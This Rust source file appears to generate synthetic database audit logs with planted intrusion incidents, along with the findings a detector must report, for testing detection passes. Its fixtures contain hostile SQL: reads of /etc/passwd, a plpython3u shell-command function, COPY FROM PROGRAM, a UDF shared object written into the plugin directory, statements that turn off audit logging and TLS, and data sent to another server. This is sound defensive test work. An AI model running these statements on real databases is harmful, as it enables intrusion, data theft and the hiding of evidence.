//! The planted incidents: one function each, planted at fixed, spread-out times.
//!
//! Each incident adds its sessions to the plan ([`Planting::add`]) and says what a correct
//! analysis must report about them ([`Planting::expect`]); [`plant`] gives the k-th entry of
//! [`INCIDENTS`] the k-th of `INCIDENTS.len()` evenly spread slots, starting at HH:10:00 of its
//! hour. Incidents draw no random numbers: the same period gives the same incidents at the
//! same times whatever the seed (only the rate spike's volume follows the size).
//!
//! To add one: write `fn my_incident(plant: &mut Planting, t: i64) -> bool` that adds its
//! sessions from time `t` on (ending before HH:45) with `plant.add`, states every finding it
//! must raise with `plant.expect`, and returns whether it planted anything (false where the
//! flavor cannot show it); append it to [`INCIDENTS`]. The slots then move, so the ground
//! truth of every corpus changes: update the counts of `ground_truth_lists_every_incident` in
//! `tests.rs`; `tests/findings.rs` and `tests/postgres.rs` then check that the passes find it.

use super::estate::{App, BASTION, MASTER_USER, PG_PERMISSION_DENIED};
use super::ground_truth::Expected;
use super::plan::{stmt, stmt_t, Body, Conn, Env, Session, SlicePlan};
use super::time::{fmt_sql_datetime, MIN_US, SLICE_US, US};
use super::Flavor;

/// An incident: adds sessions from time `t` on, returns whether it planted any.
type Incident = fn(&mut Planting, i64) -> bool;

/// Every incident, in the order of their slots through the period.
const INCIDENTS: [Incident; 15] = [
    brute_force_then_success,
    password_spray,
    unknown_source_over_ipv6,
    master_user_off_the_admin_host,
    plaintext_session,
    rate_spike,
    privilege_changes,
    destructive_statements,
    exfiltration_from_unknown_sources,
    cross_database_read,
    distributed_brute_force_then_success,
    low_and_slow_brute_force_then_success,
    obfuscated_statements,
    evidence_switched_off,
    code_execution,
];

/// The slots of two incidents the CloudTrail of `synth --cloudtrail` lines up with.
pub(crate) const MASTER_OFF_ADMIN_SLOT: usize = 3;
pub(crate) const EVIDENCE_SWITCHED_OFF_SLOT: usize = 13;

/// Incident `k`'s slot: its hour (slice) and start time. Evenly spread slots; each incident
/// starts at HH:10:00 and ends before HH:45.
pub(crate) fn slot(days: u32, start_us: i64, k: usize) -> (usize, i64) {
    let period_h = days as u64 * 24;
    let n = INCIDENTS.len() as u64;
    let h = (period_h * (2 * k as u64 + 1) / (2 * n)) as usize;
    (h, start_us + h as i64 * SLICE_US + 10 * MIN_US)
}

/// Whether the slots named above still hold the incidents they name (for the tests).
#[cfg(test)]
pub(crate) fn slots_hold_their_incidents() -> bool {
    INCIDENTS[MASTER_OFF_ADMIN_SLOT] as usize
        == (master_user_off_the_admin_host as Incident) as usize
        && INCIDENTS[EVIDENCE_SWITCHED_OFF_SLOT] as usize
            == (evidence_switched_off as Incident) as usize
}

/// What an incident plants into, and the facts of the corpus it needs.
struct Planting<'a> {
    env: &'a Env,
    slices: &'a mut [SlicePlan],
    /// The slice (hour) of the incident being planted.
    hour: usize,
    out: &'a mut Vec<Expected>,
    /// The background volume ([`build_plan`](super::plan::build_plan)'s `scale`) and the sum
    /// of the diurnal weights over the period: the background rate a spike must exceed.
    scale: f64,
    w_sum: f64,
    /// Logins of the master user from the bastion: its expected `master_user` finding (low).
    bastion_first: &'a mut i64,
    bastion_logins: &'a mut u64,
    pg: bool,
    /// The database of a session that names none (psql connects to `postgres`).
    no_db: &'static str,
    /// How the log writes a password in `CREATE USER`.
    password_masked: &'static str,
}

impl Planting<'_> {
    /// Adds a session to the incident's slice.
    fn add(&mut self, s: Session) {
        self.slices[self.hour].sessions.push(s);
    }

    /// Adds a session to the slice (hour) it starts in: for incidents longer than a slot.
    fn add_at(&mut self, s: Session) {
        let h = ((s.start - self.env.start_us) / SLICE_US) as usize;
        self.slices[h.min(self.slices.len() - 1)].sessions.push(s);
    }

    fn expect(&mut self, e: Expected) {
        self.out.push(e);
    }

    /// The master user logs in from the bastion at `t`.
    fn bastion_login(&mut self, t: i64) {
        *self.bastion_first = (*self.bastion_first).min(t);
        *self.bastion_logins += 1;
    }
}

/// Plants every incident; returns how many were planted (one fewer where the flavor does not
/// log the transport).
pub(crate) fn plant(
    env: &Env,
    slices: &mut [SlicePlan],
    out: &mut Vec<Expected>,
    scale: f64,
    w_sum: f64,
    bastion_first: &mut i64,
    bastion_logins: &mut u64,
) -> usize {
    let slot = |k: u64| slot(env.days, env.start_us, k as usize);
    let pg = env.flavor == Flavor::Postgres;
    let mut plant = Planting {
        env,
        slices,
        hour: 0,
        out,
        scale,
        w_sum,
        bastion_first,
        bastion_logins,
        pg,
        // psql connects to `postgres` when the user names no database.
        no_db: if pg { "postgres" } else { "" },
        password_masked: if env.flavor == Flavor::Mariadb {
            "*****"
        } else {
            "<secret>"
        },
    };
    let mut planted = 0;
    for (k, incident) in INCIDENTS.iter().enumerate() {
        let (h, t) = slot(k as u64);
        plant.hour = h;
        if incident(&mut plant, t) {
            planted += 1;
        }
    }
    planted
}

/// A finding about a login or a session, with no statement.
fn finding(
    kind: &'static str,
    severity: &'static str,
    user: Option<&'static str>,
    client_ip: Option<&'static str>,
    first_seen: i64,
    note: &str,
) -> Expected {
    Expected {
        kind,
        severity,
        user,
        client_ip,
        database: None,
        statement: None,
        first_seen,
        count: None,
        note: note.to_string(),
        needs: None,
    }
}

/// A finding about one statement, as the log writes it.
fn statement_finding(
    kind: &'static str,
    severity: &'static str,
    first_seen: i64,
    sql: &str,
    note: &str,
) -> Expected {
    Expected {
        kind,
        severity,
        user: None,
        client_ip: None,
        database: None,
        statement: Some(sql.to_string()),
        first_seen,
        count: Some(1),
        note: note.to_string(),
        needs: None,
    }
}

/// Brute force against the master user from a public address, then success.
fn brute_force_then_success(plant: &mut Planting, t: i64) -> bool {
    let ip = "203.0.113.50";
    for i in 0..60 {
        let s = t + i * 3 * US;
        plant.add(Session {
            start: s,
            end: s,
            user: MASTER_USER,
            host: ip,
            db: plant.no_db,
            conn: Conn::Ssl,
            body: Body::Failed { ret: 1045 },
        });
    }
    let ok = t + 10 * MIN_US;
    plant.add(Session {
        start: ok,
        end: ok + 75 * US,
        user: MASTER_USER,
        host: ip,
        db: plant.no_db,
        conn: Conn::Ssl,
        body: Body::Script(if plant.pg {
            vec![
                stmt(ok + 2 * US, "SELECT version()"),
                stmt(ok + 6 * US, "SELECT current_user, inet_server_addr()"),
                stmt(ok + 15 * US, "SELECT datname FROM pg_database"),
                stmt(ok + 31 * US, "SELECT rolname, rolsuper FROM pg_roles"),
                stmt(ok + 52 * US, "SELECT count(*) FROM orders.customers"),
            ]
        } else {
            vec![
                stmt(ok + 2 * US, "select @@version_comment limit 1"),
                stmt(ok + 6 * US, "SELECT @@version"),
                stmt(ok + 15 * US, "SHOW DATABASES"),
                stmt(ok + 31 * US, "SELECT user, host FROM mysql.user"),
                stmt_t(
                    ok + 52 * US,
                    "SELECT COUNT(*) FROM orders.customers",
                    &[("READ", "orders", "customers")],
                ),
            ]
        }),
    });
    let mut bf = finding(
        "brute_force",
        "high",
        None,
        Some(ip),
        t,
        if plant.pg {
            "60 failed logins (password authentication failed) for admin in 3 min from a public address"
        } else {
            "60 failed logins (1045) for admin in 3 min from a public address"
        },
    );
    bf.count = Some(60);
    plant.expect(bf);
    plant.expect(finding(
        "brute_force_success",
        "critical",
        Some(MASTER_USER),
        Some(ip),
        ok,
        "successful admin login 10 min after the brute force began (7 min after its last failure)",
    ));
    plant.expect(finding(
        "unknown_source_ip",
        "high",
        Some(MASTER_USER),
        Some(ip),
        ok,
        "admin logged in from a public address outside 10.20.0.0/16",
    ));
    plant.expect(finding(
        "master_user",
        "high",
        None,
        Some(ip),
        ok,
        "master user admin logged in from a public address, not the admin host",
    ));
    true
}

/// Password spray: one failure each for 12 users within 4 minutes.
fn password_spray(plant: &mut Planting, t: i64) -> bool {
    let ip = "198.51.100.23";
    const USERS: [&str; 12] = [
        "root", "test", "mysql", "dba", "backup", "oracle", "postgres", "user", "guest", "support",
        "web", "app",
    ];
    for (i, u) in USERS.iter().enumerate() {
        let s = t + i as i64 * 20 * US;
        plant.add(Session {
            start: s,
            end: s,
            user: u,
            host: ip,
            db: if plant.pg { u } else { "" },
            conn: Conn::Ssl,
            body: Body::Failed { ret: 1045 },
        });
    }
    let mut ps = finding(
        "password_spray",
        "high",
        None,
        Some(ip),
        t,
        "12 distinct users, one failed login each, within 4 min",
    );
    ps.count = Some(12);
    plant.expect(ps);
    true
}

/// Unknown source: reporting over IPv6 (the other two unknown sources are
/// [`exfiltration_from_unknown_sources`]).
fn unknown_source_over_ipv6(plant: &mut Planting, t: i64) -> bool {
    let ip = "2001:db8:abcd::1234";
    plant.add(Session {
            start: t,
            end: t + 40 * US,
            user: "reporting",
            host: ip,
            db: "analytics",
            conn: Conn::Ssl,
            body: Body::Script(vec![
                stmt(t + US, if plant.pg { "SET application_name = 'DBeaver 24.0.0'" } else { "SET NAMES utf8mb4" }),
                stmt_t(t + 4 * US, "SELECT region, SUM(revenue_cents) AS revenue FROM daily_sales WHERE order_date = '2026-02-27' GROUP BY region", &[("READ", "analytics", "daily_sales")]),
                stmt_t(t + 20 * US, "SELECT COUNT(*) FROM kpi_weekly", &[("READ", "analytics", "kpi_weekly")]),
            ]),
        });
    plant.expect(finding(
        "unknown_source_ip",
        "high",
        Some("reporting"),
        Some(ip),
        t,
        "reporting logged in from a public IPv6 address",
    ));
    true
}

/// Master user from inside the VPC but not from the admin host.
fn master_user_off_the_admin_host(plant: &mut Planting, t: i64) -> bool {
    let ip = "10.20.3.44";
    plant.add(Session {
        start: t,
        end: t + 60 * US,
        user: MASTER_USER,
        host: ip,
        db: plant.no_db,
        conn: Conn::Ssl,
        body: Body::Script(vec![
            stmt(
                t + 2 * US,
                if plant.pg {
                    "SELECT datname FROM pg_database"
                } else {
                    "SHOW DATABASES"
                },
            ),
            stmt_t(
                t + 10 * US,
                "SELECT COUNT(*) FROM orders.orders",
                &[("READ", "orders", "orders")],
            ),
            stmt(
                t + 25 * US,
                if plant.pg {
                    "SELECT pid, usename, client_addr, query FROM pg_stat_activity"
                } else {
                    "SHOW PROCESSLIST"
                },
            ),
        ]),
    });
    plant.expect(finding(
        "master_user",
        "high",
        None,
        Some(ip),
        t,
        "master user admin logged in from 10.20.3.44, not the admin host",
    ));
    true
}

/// Plaintext session: only RDS for MySQL and PostgreSQL logs record the transport.
fn plaintext_session(plant: &mut Planting, t: i64) -> bool {
    if !(plant.env.flavor == Flavor::RdsMysql || plant.pg) {
        return false;
    }

    let ip = "10.20.7.7";
    let ts = fmt_sql_datetime(t + 3 * US);
    plant.add(Session {
        start: t,
        end: t + 10 * US,
        user: "legacy_app",
        host: ip,
        db: "legacy",
        conn: Conn::Tcp,
        body: Body::Script(vec![
            stmt(
                t + US,
                "SELECT id, name, balance FROM accounts WHERE id = 7",
            ),
            stmt(
                t + 3 * US,
                format!("UPDATE accounts SET last_login = '{ts}' WHERE id = 7"),
            ),
            stmt(
                t + 5 * US,
                "SELECT COUNT(*) FROM sessions WHERE account_id = 7",
            ),
        ]),
    });
    plant.expect(finding(
        "non_ssl_session",
        "medium",
        Some("legacy_app"),
        Some(ip),
        t,
        if plant.pg {
            "legacy_app connected without SSL (no `SSL enabled` in connection authorized)"
        } else {
            "legacy_app connected over TCP/IP without TLS"
        },
    ));
    true
}

/// Rate spike: reporting at >= 20x its peak-hour 5-minute rate for 15 minutes.
fn rate_spike(plant: &mut Planting, t: i64) -> bool {
    let p = App::Reporting.profile();
    let peak_per_5min = plant.scale * p.share * 3.0 / plant.w_sum / 12.0;
    let per_5min = (20.0 * peak_per_5min).max(200.0).ceil() as u64;
    let total = per_5min * 3;
    let parts = 4u64;
    for j in 0..parts {
        let s = t + j as i64 * US;
        let n = total / parts + u64::from(j < total % parts);
        plant.add(Session {
            start: s,
            end: s + 15 * MIN_US,
            user: p.user,
            host: p.hosts[0],
            db: p.db,
            conn: Conn::Ssl,
            body: Body::Pooled {
                app: App::Reporting,
                n: n as u32,
                regular: true,
            },
        });
    }
    let mut rs = finding(
        "rate_spike",
        "high",
        Some(p.user),
        None,
        t + US,
        &format!("{total} queries in 15 min (>= 20x the peak 5-minute rate of {peak_per_5min:.1})"),
    );
    rs.count = Some(total);
    plant.expect(rs);
    true
}

/// Privilege changes by the master user from the bastion.
fn privilege_changes(plant: &mut Planting, t: i64) -> bool {
    let (create, grant, check) = if plant.pg {
        (
            "CREATE USER backdoor WITH PASSWORD <REDACTED>".to_string(),
            "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO backdoor WITH GRANT OPTION",
            "SELECT rolname, rolsuper, rolcanlogin FROM pg_roles WHERE rolname = 'backdoor'",
        )
    } else {
        (
            format!(
                "CREATE USER 'backdoor'@'%' IDENTIFIED BY {}",
                plant.password_masked
            ),
            "GRANT ALL PRIVILEGES ON *.* TO 'backdoor'@'%' WITH GRANT OPTION",
            "SELECT user, host FROM mysql.user WHERE user = 'backdoor'",
        )
    };
    plant.add(Session {
        start: t,
        end: t + 30 * US,
        user: MASTER_USER,
        host: BASTION,
        db: plant.no_db,
        conn: Conn::Ssl,
        body: Body::Script(vec![
            stmt_t(t + 3 * US, create.clone(), &[("WRITE", "mysql", "user")]),
            stmt_t(
                t + 9 * US,
                grant,
                &[("WRITE", "mysql", "user"), ("WRITE", "mysql", "db")],
            ),
            // Not FLUSH PRIVILEGES: whether that counts as a privilege change is debatable,
            // and the ground truth must be unambiguous.
            stmt_t(t + 14 * US, check, &[("READ", "mysql", "user")]),
        ]),
    });
    plant.bastion_login(t);
    plant.expect(statement_finding(
        "privilege_change",
        "high",
        t + 3 * US,
        &create,
        "admin (bastion) created user backdoor@%",
    ));
    plant.expect(statement_finding(
        "privilege_change",
        "critical",
        t + 9 * US,
        grant,
        "admin (bastion) granted ALL ... WITH GRANT OPTION to backdoor@%",
    ));
    true
}

/// Destructive statements by the master user from the bastion.
fn destructive_statements(plant: &mut Planting, t: i64) -> bool {
    let drop = "DROP TABLE orders.customers_backup";
    let delete = "DELETE FROM billing.invoices";
    let trunc = "TRUNCATE TABLE warehouse.staging_events";
    plant.add(Session {
        start: t,
        end: t + 60 * US,
        user: MASTER_USER,
        host: BASTION,
        db: plant.no_db,
        conn: Conn::Ssl,
        body: Body::Script(vec![
            stmt_t(t + 2 * US, drop, &[("DROP", "orders", "customers_backup")]),
            stmt_t(t + 20 * US, delete, &[("WRITE", "billing", "invoices")]),
            stmt(t + 41 * US, trunc),
        ]),
    });
    plant.bastion_login(t);
    plant.expect(statement_finding(
        "destructive",
        "high",
        t + 2 * US,
        drop,
        "admin (bastion) dropped a table",
    ));
    plant.expect(statement_finding(
        "destructive",
        "high",
        t + 20 * US,
        delete,
        "admin (bastion) deleted every invoice (no WHERE)",
    ));
    plant.expect(statement_finding(
        "destructive",
        "high",
        t + 41 * US,
        trunc,
        "admin (bastion) truncated a table",
    ));
    true
}

/// Exfiltration from two unknown sources (also the public / private unknown logins).
fn exfiltration_from_unknown_sources(plant: &mut Planting, t: i64) -> bool {
    let pub_ip = "192.0.2.77";
    // On RDS PostgreSQL both attempts fail for want of privileges, but pgaudit and
    // log_statement log them before they run: the intent is what matters.
    let (outfile, load, failed) = if plant.pg {
        (
            "COPY (SELECT * FROM customers) TO '/tmp/customers.csv' WITH CSV HEADER",
            "SELECT pg_read_file('/etc/passwd')",
            PG_PERMISSION_DENIED,
        )
    } else {
        (
            "SELECT * FROM orders.customers INTO OUTFILE '/tmp/customers.csv'",
            "SELECT LOAD_FILE('/etc/passwd')",
            0,
        )
    };
    let mut dump = stmt_t(t + 12 * US, outfile, &[("READ", "orders", "customers")]);
    dump.ret = failed;
    plant.add(Session {
        start: t,
        end: t + 30 * US,
        user: "app_orders",
        host: pub_ip,
        db: "orders",
        conn: Conn::Ssl,
        body: Body::Script(vec![
            stmt(
                t + US,
                if plant.pg {
                    "SET application_name = 'psql'"
                } else {
                    "SET NAMES utf8mb4"
                },
            ),
            stmt_t(
                t + 5 * US,
                "SELECT COUNT(*) FROM customers",
                &[("READ", "orders", "customers")],
            ),
            dump,
        ]),
    });
    let t2 = t + 20 * MIN_US;
    let priv_ip = "172.16.8.9";
    let mut read = stmt(t2 + 6 * US, load);
    read.ret = failed;
    plant.add(Session {
        start: t2,
        end: t2 + 20 * US,
        user: "etl",
        host: priv_ip,
        db: "warehouse",
        conn: Conn::Ssl,
        body: Body::Script(vec![
            stmt(
                t2 + 2 * US,
                if plant.pg {
                    "SELECT inet_server_addr()"
                } else {
                    "SELECT @@hostname"
                },
            ),
            read,
        ]),
    });
    plant.expect(finding(
        "unknown_source_ip",
        "high",
        Some("app_orders"),
        Some(pub_ip),
        t,
        "app_orders logged in from a public address",
    ));
    plant.expect(finding(
        "unknown_source_ip",
        "medium",
        Some("etl"),
        Some(priv_ip),
        t2,
        "etl logged in from a private address outside 10.20.0.0/16",
    ));
    plant.expect(statement_finding(
        "exfiltration",
        "critical",
        t + 12 * US,
        outfile,
        "app_orders from unknown source 192.0.2.77 dumped customers to a server file",
    ));
    plant.expect(statement_finding(
        "exfiltration",
        "critical",
        t2 + 6 * US,
        load,
        "etl from unknown source 172.16.8.9 read /etc/passwd",
    ));
    true
}

/// Cross-database read by app_billing from its usual host. PostgreSQL cannot query
/// across databases: there the session itself connects to `orders`.
fn cross_database_read(plant: &mut Planting, t: i64) -> bool {
    let p = App::Billing.profile();
    if plant.pg {
        plant.add(Session {
            start: t,
            end: t + 10 * US,
            user: p.user,
            host: p.hosts[0],
            db: "orders",
            conn: Conn::Ssl,
            body: Body::Script(vec![stmt(
                t + 4 * US,
                "SELECT * FROM customers WHERE id = 42",
            )]),
        });
        let mut cd = finding(
            "cross_database",
            "medium",
            Some(p.user),
            None,
            t,
            "app_billing (normally billing) connected to orders and read customers",
        );
        cd.database = Some("orders");
        plant.expect(cd);
    } else {
        plant.add(Session {
            start: t,
            end: t + 10 * US,
            user: p.user,
            host: p.hosts[0],
            db: p.db,
            conn: Conn::Ssl,
            body: Body::Script(vec![
                stmt_t(
                    t + US,
                    "SELECT id, amount_cents FROM invoices WHERE id = 1001",
                    &[("READ", "billing", "invoices")],
                ),
                stmt_t(
                    t + 4 * US,
                    "SELECT * FROM orders.customers WHERE id = 42",
                    &[("READ", "orders", "customers")],
                ),
            ]),
        });
        let mut cd = finding(
            "cross_database",
            "medium",
            Some(p.user),
            None,
            t + 4 * US,
            "app_billing (normally billing) read orders.customers",
        );
        cd.database = Some("orders");
        plant.expect(cd);
    }
    true
}

/// The statement text a finding shows: whitespace collapsed.
fn collapsed(sql: &str) -> String {
    sql.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A session of the master user from the bastion running `sqls` two seconds apart, each of
/// which must raise a statement finding of the given kind and severity.
fn bastion_statements(
    plant: &mut Planting,
    t: i64,
    sqls: &[(&'static str, &'static str, &str, &str)],
) {
    let stmts = sqls
        .iter()
        .enumerate()
        .map(|(i, (_, _, sql, _))| stmt(t + (2 + 2 * i as i64) * US, sql.to_string()))
        .collect();
    plant.add(Session {
        start: t,
        end: t + (4 + 2 * sqls.len() as i64) * US,
        user: MASTER_USER,
        host: BASTION,
        db: plant.no_db,
        conn: Conn::Ssl,
        body: Body::Script(stmts),
    });
    plant.bastion_login(t);
    for (i, (kind, severity, sql, note)) in sqls.iter().enumerate() {
        plant.expect(statement_finding(
            kind,
            severity,
            t + (2 + 2 * i as i64) * US,
            &collapsed(sql),
            note,
        ));
    }
}

/// Distributed brute force: 150 failed logins for the master user from 75 public addresses
/// in ten minutes (two per address, under every per-source threshold), then a success from
/// one of them.
fn distributed_brute_force_then_success(plant: &mut Planting, t: i64) -> bool {
    for i in 0..150i64 {
        let s = t + i * 4 * US;
        plant.add(Session {
            start: s,
            end: s,
            user: MASTER_USER,
            host: DISTRIBUTED_SOURCES[(i % 75) as usize],
            db: plant.no_db,
            conn: Conn::Ssl,
            body: Body::Failed { ret: 1045 },
        });
    }
    let ip = DISTRIBUTED_SOURCES[50];
    let ok = t + 12 * MIN_US;
    plant.add(Session {
        start: ok,
        end: ok + 20 * US,
        user: MASTER_USER,
        host: ip,
        db: plant.no_db,
        conn: Conn::Ssl,
        body: Body::Script(vec![stmt(
            ok + 3 * US,
            if plant.pg {
                "SELECT current_user"
            } else {
                "SELECT CURRENT_USER()"
            },
        )]),
    });
    let mut d = finding(
        "distributed_brute_force",
        "high",
        Some(MASTER_USER),
        None,
        t,
        "150 failed logins for admin from 75 public addresses in 10 min, 2 per address",
    );
    d.count = Some(150);
    plant.expect(d);
    plant.expect(finding(
        "brute_force_success",
        "critical",
        Some(MASTER_USER),
        Some(ip),
        ok,
        "admin logged in from one of the 75 sources 2 min after the last failure",
    ));
    plant.expect(finding(
        "unknown_source_ip",
        "high",
        Some(MASTER_USER),
        Some(ip),
        ok,
        "admin logged in from a public address",
    ));
    plant.expect(finding(
        "master_user",
        "high",
        None,
        Some(ip),
        ok,
        "master user admin logged in from a public address, not the admin host",
    ));
    true
}

/// The 75 sources of [`distributed_brute_force_then_success`]: 192.0.2.100 to .174.
pub(crate) const DISTRIBUTED_SOURCES: [&str; 75] = [
    "192.0.2.100",
    "192.0.2.101",
    "192.0.2.102",
    "192.0.2.103",
    "192.0.2.104",
    "192.0.2.105",
    "192.0.2.106",
    "192.0.2.107",
    "192.0.2.108",
    "192.0.2.109",
    "192.0.2.110",
    "192.0.2.111",
    "192.0.2.112",
    "192.0.2.113",
    "192.0.2.114",
    "192.0.2.115",
    "192.0.2.116",
    "192.0.2.117",
    "192.0.2.118",
    "192.0.2.119",
    "192.0.2.120",
    "192.0.2.121",
    "192.0.2.122",
    "192.0.2.123",
    "192.0.2.124",
    "192.0.2.125",
    "192.0.2.126",
    "192.0.2.127",
    "192.0.2.128",
    "192.0.2.129",
    "192.0.2.130",
    "192.0.2.131",
    "192.0.2.132",
    "192.0.2.133",
    "192.0.2.134",
    "192.0.2.135",
    "192.0.2.136",
    "192.0.2.137",
    "192.0.2.138",
    "192.0.2.139",
    "192.0.2.140",
    "192.0.2.141",
    "192.0.2.142",
    "192.0.2.143",
    "192.0.2.144",
    "192.0.2.145",
    "192.0.2.146",
    "192.0.2.147",
    "192.0.2.148",
    "192.0.2.149",
    "192.0.2.150",
    "192.0.2.151",
    "192.0.2.152",
    "192.0.2.153",
    "192.0.2.154",
    "192.0.2.155",
    "192.0.2.156",
    "192.0.2.157",
    "192.0.2.158",
    "192.0.2.159",
    "192.0.2.160",
    "192.0.2.161",
    "192.0.2.162",
    "192.0.2.163",
    "192.0.2.164",
    "192.0.2.165",
    "192.0.2.166",
    "192.0.2.167",
    "192.0.2.168",
    "192.0.2.169",
    "192.0.2.170",
    "192.0.2.171",
    "192.0.2.172",
    "192.0.2.173",
    "192.0.2.174",
];

/// Low and slow: one failed login every two minutes for two hours from one public address
/// (never 20 in 5 minutes), then a success.
fn low_and_slow_brute_force_then_success(plant: &mut Planting, t: i64) -> bool {
    let ip = "203.0.113.77";
    let user = "reporting";
    for i in 0..60i64 {
        let s = t + i * 2 * MIN_US;
        plant.add_at(Session {
            start: s,
            end: s,
            user,
            host: ip,
            db: if plant.pg { "analytics" } else { "" },
            conn: Conn::Ssl,
            body: Body::Failed { ret: 1045 },
        });
    }
    let ok = t + 120 * MIN_US + 30 * US;
    plant.add_at(Session {
        start: ok,
        end: ok + 10 * US,
        user,
        host: ip,
        db: "analytics",
        conn: Conn::Ssl,
        body: Body::Script(vec![stmt_t(
            ok + 2 * US,
            "SELECT COUNT(*) FROM kpi_weekly",
            &[("READ", "analytics", "kpi_weekly")],
        )]),
    });
    let mut bf = finding(
        "brute_force",
        "high",
        Some(user),
        Some(ip),
        t,
        "60 failed logins for reporting, one every 2 min for 2 h: a slow brute force",
    );
    bf.count = Some(60);
    plant.expect(bf);
    plant.expect(finding(
        "brute_force_success",
        "critical",
        Some(user),
        Some(ip),
        ok,
        "reporting logged in from the slow brute force's address 30 s after its last failure",
    ));
    plant.expect(finding(
        "unknown_source_ip",
        "high",
        Some(user),
        Some(ip),
        ok,
        "reporting logged in from a public address",
    ));
    true
}

/// Statements dressed to slip past a text match: comments for spaces, a newline between
/// keywords, server-file reads, tautological filters.
fn obfuscated_statements(plant: &mut Planting, t: i64) -> bool {
    let sqls: &[(&'static str, &'static str, &str, &str)] = if plant.pg {
        &[
            (
                "exfiltration",
                "high",
                "COPY/**/orders.customers/**/TO/**/'/tmp/a.csv'",
                "comments for spaces",
            ),
            (
                "exfiltration",
                "high",
                "COPY (SELECT * FROM orders.customers)\nTO '/tmp/b.csv'",
                "TO on its own line",
            ),
            (
                "exfiltration",
                "high",
                "COPY orders.staging FROM '/etc/passwd'",
                "server file read",
            ),
            (
                "exfiltration",
                "high",
                "SELECT lo_import('/etc/passwd')",
                "server file into a large object",
            ),
            (
                "exfiltration",
                "high",
                "SELECT * FROM dblink('host=203.0.113.9 dbname=x', 'SELECT 1') AS r(a int)",
                "data to another server",
            ),
            (
                "destructive",
                "high",
                "DELETE FROM orders.customers WHERE 1=1",
                "tautological filter",
            ),
            (
                "destructive",
                "high",
                "UPDATE orders.customers SET email='x' WHERE true",
                "tautological filter",
            ),
            (
                "destructive",
                "high",
                "DROP SCHEMA staging CASCADE",
                "schema dropped",
            ),
        ]
    } else {
        &[
            ("exfiltration", "high", "SELECT/**/*/**/FROM/**/orders.customers/**/INTO/**/OUTFILE '/tmp/a.csv'", "comments for spaces"),
            ("exfiltration", "high", "SELECT * FROM orders.customers INTO\nOUTFILE '/tmp/b.csv'", "INTO and OUTFILE on separate lines"),
            ("exfiltration", "high", "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders.staging", "server file read"),
            ("exfiltration", "high", "CREATE TABLE orders.mirror (id INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@203.0.113.9:3306/x/t'", "data to another server"),
            ("destructive", "high", "DELETE FROM orders.customers WHERE 1=1", "tautological filter"),
            ("destructive", "high", "UPDATE orders.customers SET email='x' WHERE 1", "tautological filter"),
            ("destructive", "high", "DROP SCHEMA staging", "schema dropped"),
        ]
    };
    bastion_statements(plant, t, sqls);
    true
}

/// Switching the evidence off from SQL: the audit plugin or pgaudit, connection logging, TLS.
fn evidence_switched_off(plant: &mut Planting, t: i64) -> bool {
    let sqls: &[(&'static str, &'static str, &str, &str)] = if plant.pg {
        &[
            (
                "audit_disabled",
                "critical",
                "SET pgaudit.log = 'none'",
                "session-level pgaudit off",
            ),
            (
                "audit_disabled",
                "critical",
                "ALTER SYSTEM SET pgaudit.log = 'none'",
                "pgaudit off for everyone",
            ),
            (
                "audit_disabled",
                "critical",
                "ALTER SYSTEM SET log_connections = off",
                "connection logging off",
            ),
            (
                "audit_disabled",
                "critical",
                "ALTER SYSTEM SET log_statement = 'none'",
                "statement logging off",
            ),
            (
                "audit_disabled",
                "critical",
                "DROP EXTENSION pgaudit",
                "pgaudit removed",
            ),
            (
                "tls_weakened",
                "high",
                "ALTER SYSTEM SET ssl = off",
                "TLS off",
            ),
            (
                "tls_weakened",
                "high",
                "ALTER SYSTEM SET ssl_min_protocol_version = 'TLSv1'",
                "TLS 1.0 allowed",
            ),
        ]
    } else {
        &[
            (
                "audit_disabled",
                "critical",
                "SET GLOBAL server_audit_logging=OFF",
                "audit plugin off",
            ),
            (
                "audit_disabled",
                "critical",
                "SET GLOBAL server_audit_excl_users='app'",
                "a user excluded from the audit",
            ),
            (
                "audit_disabled",
                "critical",
                "UNINSTALL PLUGIN server_audit",
                "audit plugin removed",
            ),
            (
                "tls_weakened",
                "high",
                "SET GLOBAL require_secure_transport=OFF",
                "plaintext allowed",
            ),
            (
                "tls_weakened",
                "high",
                "ALTER USER 'app_orders'@'%' REQUIRE NONE",
                "TLS no longer required of a user",
            ),
        ]
    };
    bastion_statements(plant, t, sqls);
    true
}

/// Code execution on the server: a UDF from a shared object, an untrusted language, a
/// program run by COPY, a dangerous extension.
fn code_execution(plant: &mut Planting, t: i64) -> bool {
    let sqls: &[(&'static str, &'static str, &str, &str)] = if plant.pg {
        &[
            ("code_execution", "critical", "CREATE EXTENSION dblink", "dblink installed"),
            ("code_execution", "critical", "CREATE LANGUAGE plpython3u", "untrusted language"),
            ("code_execution", "critical", "CREATE FUNCTION sh(cmd text) RETURNS text AS $$\nimport subprocess\nreturn subprocess.check_output(cmd, shell=True)\n$$ LANGUAGE plpython3u", "function in an untrusted language"),
            ("code_execution", "critical", "COPY orders.staging FROM PROGRAM 'id'", "shell command"),
        ]
    } else {
        &[
            (
                "code_execution",
                "critical",
                "SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib64/mysql/plugin/lib_mysqludf_sys.so'",
                "shared object written into the plugin directory",
            ),
            (
                "code_execution",
                "critical",
                "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'",
                "UDF from a shared object",
            ),
        ]
    };
    bastion_statements(plant, t, sqls);
    true
}
